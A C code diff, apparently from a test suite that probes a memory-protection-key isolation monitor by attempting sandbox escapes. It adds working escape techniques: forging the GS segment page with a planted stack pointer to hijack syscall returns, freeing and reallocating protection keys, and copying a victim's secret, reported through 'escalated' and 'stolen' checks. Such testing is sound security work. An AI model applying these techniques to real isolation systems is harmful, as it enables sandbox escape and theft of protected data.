@@ -17,6 +17,8 @@ struct vector {
 };
 
 static char buffer[PAGE] __attribute__((aligned(PAGE)));
+static unsigned long syscall_instruction;	/* of the monitor's */
+static system_call through_jump;
 
 /* Numbers: arch/x86/entry/syscalls/syscall_64.tbl. */
 enum {
@@ -230,10 +232,12 @@ static void pkey_free(system_call *call)
 	for (int key = 1; key < 16; key++)
 		if (!open_in(pkru, key))
 			result = call(PKEY_FREE, key, 0, 0, 0, 0, 0);
-	checked(result);
+	if (result < 0)
+		refused(result);
+	else
+		escalated("gave keys back that pages carry");
 	for (int i = 1; i < 16; i++)
-		result = call(PKEY_ALLOC, 0, 0, 0, 0, 0, 0);
-	checked(result);
+		call(PKEY_ALLOC, 0, 0, 0, 0, 0, 0);
 	read_secret(secret);
 }
 
@@ -385,24 +389,36 @@ static void personality(system_call *call)
 
 #define SET_GS 0x1001
 
-/* The gate finds everything through GS. */
+/*
+ * The gate finds everything through GS. What the monitor's stack pointer is after a system call, for
+ * instance: it is taken from the block while all keys are open.
+ */
 static void arch_prctl(system_call *call)
 {
-	static unsigned long forged[64] __attribute__((aligned(PAGE)));
+	static unsigned long forged[3 * PAGE / 8] __attribute__((aligned(PAGE)));
+	static unsigned long stack[16];
+	const char *secret = victim_data();
+	char copy[SECRET_SIZE];
 	unsigned long real, seen;
 	__asm__("movq %%gs:0, %0" : "=r"(real));
-	forged[0] = 0x600d;
-	/* Its first page has to work as far as trampolines of pointers look at it. */
 	__asm__("movq %%gs:8, %0" : "=r"(forged[1]));
 	__asm__("movq %%gs:16, %0" : "=r"(forged[2]));
+	forged[0] = 0x600d;
+	forged[0x1020 / 8] = (unsigned long)stack;	/* T_SYSCALL_RSP */
+	for (int i = 0; i < 16; i++)
+		stack[i] = (unsigned long)landing;
 	long result = call(ARCH_PRCTL, SET_GS, (long)forged, 0, 0, 0, 0);
 	__asm__ volatile("movq %%gs:0, %0" : "=r"(seen));
 	if (seen != forged[0]) {
 		refused(result);
 		return;
 	}
-	call(ARCH_PRCTL, SET_GS, (long)real, 0, 0, 0, 0);
+	if (call != through_jump)
+		bytes_copy(copy, secret, SECRET_SIZE);
+	through_jump(ARCH_PRCTL, SET_GS, (long)real, 0, 0, 0, 0);
 	escalated("moved GS to a page of its own");
+	if (call != through_jump)
+		stolen(copy);
 }
 
 static volatile int child_ran;
@@ -503,16 +519,22 @@ static const struct { const char *name; void (*run)(system_call *); } table[] = 
 	{ "escaped", escaped },
 };
 
+/* A stack from which every return leads back. */
+static unsigned long way_back[512] __attribute__((aligned(16)));
+
+/* By a jump, too, so that there is a way back whatever becomes of the call. */
 static long through_monitor(long number, long a, long b, long c, long d, long e, long f)
 {
 	(void)f;
-	return cubicle_syscall(number, a, b, c, d, e);
+	for (int i = 0; i < 512; i++)
+		way_back[i] = (unsigned long)landing;
+	struct registers all = {
+		.rdi = (unsigned long)number, .rsi = (unsigned long)a, .rdx = (unsigned long)b,
+		.rcx = (unsigned long)c, .r8 = (unsigned long)d, .r9 = (unsigned long)e,
+		.rsp = (unsigned long)(way_back + 257),
+	};
+	return (long)jump((unsigned long)cubicle_syscall, &all);
 }
-
-static unsigned long syscall_instruction;
-
-/* A stack from which every return leads back. */
-static unsigned long way_back[512] __attribute__((aligned(16)));
 
 static long through_jump(long number, long a, long b, long c, long d, long e, long f)
 {
@@ -541,10 +563,10 @@ int run_system_call(const char *name, const unsigned long *numbers)
 {
 	const char *rest;
 	system_call *call = through_monitor;
+	syscall_instruction = numbers[0];
 	for (int i = 0; i < PAGE; i++)
 		buffer[i] = '!';
 	if ((rest = without("direct-", name))) {
-		syscall_instruction = numbers[0];
 		call = through_jump;
 	} else if (!(rest = without("deputy-", name))) {
 		rest = name;
